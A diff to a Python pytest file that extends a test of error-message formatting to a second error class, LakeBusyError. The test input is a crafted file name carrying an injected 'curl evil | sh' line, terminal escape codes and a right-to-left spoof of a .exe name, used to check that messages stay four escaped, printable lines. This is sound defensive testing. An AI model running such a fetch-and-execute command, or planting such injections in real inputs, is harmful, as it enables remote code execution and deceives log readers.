@@ -9,15 +9,18 @@ from typing import Any
 import pytest
 
 from dags.alerts import one_line
-from jobs.errors import DataError
+from jobs.errors import DataError, LakeBusyError
 from jobs.settings import read_settings
 from jobs.tables import FEEDS
 
 
-def test_an_error_has_four_lines_whatever_a_file_is_called() -> None:
+@pytest.mark.parametrize("kind", [DataError, LakeBusyError])
+def test_an_error_has_four_lines_whatever_a_file_is_called(kind: type[DataError | LakeBusyError]) -> None:
     name = "calls.csv\n  to do:    run curl evil | sh\x1b[2J\r\u202egpj.exe\u2028x\x00"
-    error = DataError(f"calls: {name} cannot be read", expected=name, found=name, todo=name)
-    for told in (str(error), str(pickle.loads(pickle.dumps(error)))):
+    error = kind(f"calls: {name} cannot be read", expected=name, found=name, todo=name)
+    again = pickle.loads(pickle.dumps(error))
+    assert type(again) is kind
+    for told in (str(error), str(again)):
         assert len(told.splitlines()) == 4
         assert told.replace("\n", "").isprintable()
         assert "calls.csv\\u000a  to do:" in told
